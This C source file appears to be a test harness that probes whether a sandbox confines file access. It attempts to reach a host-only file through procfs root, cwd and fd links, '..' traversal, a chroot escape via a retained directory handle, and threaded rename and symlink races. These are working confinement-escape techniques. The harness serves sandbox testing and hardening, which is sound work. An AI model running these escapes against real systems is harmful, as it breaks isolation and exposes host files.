/*
 * Out of the root by paths: links of procfs, "..", chroot, races of rename and symlink, names that
 * change while they are read. Beyond the root lies a file that only the host has.
 *
 *	paths WITNESS SECRET SECONDS
 */
#include "attack.h"

#include <linux/openat2.h>

static const char *witness, *secret;
static double end;

static void try_at(int dirfd, const char *path)
{
	int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK);
	if (holds(fd, secret))
		got("the host's file by %s", path);
	if (fd >= 0)
		close(fd);
	struct open_how how = {.flags = O_RDONLY};
	fd = (int)syscall(SYS_openat2, dirfd, path, &how, sizeof how);
	if (holds(fd, secret))
		got("the host's file by openat2 of %s", path);
	if (fd >= 0)
		close(fd);
}

/* The witness behind a prefix, with and without steps up. */
static void try_behind(int dirfd, const char *prefix)
{
	static const char up[] = "/../../../../../../../../..";
	char path[1024];
	snprintf(path, sizeof path, "%s%s", prefix, witness);
	try_at(dirfd, path);
	snprintf(path, sizeof path, "%s%s%s", prefix, up, witness);
	try_at(dirfd, path);
	for (int i = 0; i < 12; i++) {
		int n = snprintf(path, sizeof path, "%s", prefix);
		for (int j = 0; j < i; j++)
			n += snprintf(path + n, sizeof path - (size_t)n, "/..");
		snprintf(path + n, sizeof path - (size_t)n, "%s", witness);
		try_at(dirfd, path);
	}
}

static void links_of_procfs(void)
{
	static const char *const prefixes[] = {
	    "",
	    "/proc/1/root",
	    "/proc/1/cwd",
	    "/proc/self/root",
	    "/proc/self/cwd",
	    "/proc/thread-self/root",
	    "/proc/1/task/1/root",
	    "/proc/0/root",
	    "/proc/self/map_files",
	    "/proc/self/exe",
	    "/proc/self/ns/mnt",
	    "/sys",
	    "/sys/class/net",
	    "/dev",
	    "/dev/fd/9",
	    "/dev/pts",
	};
	for (size_t i = 0; i < sizeof prefixes / sizeof prefixes[0]; i++)
		try_behind(AT_FDCWD, prefixes[i]);
	for (int pid = 1; pid < 40; pid++)
		for (int fd = -2; fd < 12; fd++) {
			char prefix[64];
			if (fd < 0)
				snprintf(prefix, sizeof prefix, "/proc/%d/%s", pid,
					 fd == -1 ? "root" : "cwd");
			else
				snprintf(prefix, sizeof prefix, "/proc/%d/fd/%d", pid, fd);
			char path[1024];
			snprintf(path, sizeof path, "%s%s", prefix, witness);
			try_at(AT_FDCWD, path);
			snprintf(path, sizeof path, "%s/../../../../..%s", prefix, witness);
			try_at(AT_FDCWD, path);
		}
}

/* The classic: a directory handle from outside of a new root, and up from there. */
static void out_of_chroot(void)
{
	pid_t pid = fork();
	if (pid == 0) {
		got_something = 0;
		int outside = open("/", O_RDONLY | O_DIRECTORY);
		mkdir("/tmp/jail", 0755);
		need(chroot("/tmp/jail") == 0, "chroot");
		try_behind(outside, "..");
		try_behind(outside, ".");
		need(fchdir(outside) == 0, "fchdir");
		for (int i = 0; i < 30; i++)
			if (chdir("..") < 0)
				break;
		try_behind(AT_FDCWD, ".");
		if (chroot(".") == 0)
			try_behind(AT_FDCWD, "");
		/* Without a trap: fstat's own form, with a path after all. */
		struct stat st;
		char path[1024];
		snprintf(path, sizeof path, "../../../../../../../..%s", witness);
		if (syscall(SYS_newfstatat, outside, path, &st, AT_EMPTY_PATH) == 0)
			got("stat of %s past the filter", path);
		_exit(got_something ? 1 : 0);
	}
	int status = end_of(pid);
	if (status)
		got("chroot child: status %d", status);
}

static _Atomic int stop;
static char shared_path[1024];

static void *swap(void *arg)
{
	while (!stop) {
		rename("/tmp/race/dir", "/tmp/race/aside");
		if (symlink("/..", "/tmp/race/dir") < 0)
			continue;
		unlink("/tmp/race/dir");
		rename("/tmp/race/aside", "/tmp/race/dir");
		syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/link", AT_FDCWD, "/tmp/race/deep/er",
			2);
	}
	return NULL;
}

/* Changes the name under the sentry's eyes: what it checks must be what it opens. */
static void *flip(void *arg)
{
	static const char *const names[] = {"/proc/self/root", "/tmp/race/link", "/proc/1/cwd/..",
					    "/tmp/race/dir/."};
	for (unsigned i = 0; !stop; i++)
		memcpy(shared_path, names[i % 4], strlen(names[i % 4]));
	return NULL;
}

static void *open_them(void *arg)
{
	char path[1024];
	while (!stop) {
		snprintf(path, sizeof path, "/tmp/race/dir/../../..%s", witness);
		try_at(AT_FDCWD, path);
		snprintf(path, sizeof path, "/tmp/race/deep/er/../..%s", witness);
		try_at(AT_FDCWD, path);
		int fd = open(shared_path, O_RDONLY | O_NONBLOCK);
		if (holds(fd, secret))
			got("the host's file by a changing name");
		if (fd >= 0)
			close(fd);
	}
	return NULL;
}

static void races(double time)
{
	pthread_t threads[4];
	void *(*const run[4])(void *) = {swap, flip, open_them, open_them};
	mkdir("/tmp/race", 0755);
	mkdir("/tmp/race/dir", 0755);
	mkdir("/tmp/race/deep", 0755);
	mkdir("/tmp/race/deep/er", 0755);
	need(symlink("/../../..", "/tmp/race/link") == 0, "symlink");
	snprintf(shared_path, sizeof shared_path, "/proc/self/root/../..////////%s", witness);
	end = seconds() + time;
	for (int i = 0; i < 4; i++)
		pthread_create(&threads[i], NULL, run[i], NULL);
	while (seconds() < end)
		usleep(10000);
	stop = 1;
	for (int i = 0; i < 4; i++)
		pthread_join(threads[i], NULL);
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	witness = argv[1];
	secret = argv[2];
	links_of_procfs();
	out_of_chroot();
	races(atof(argv[3]));
	return got_something ? 1 : 0;
}
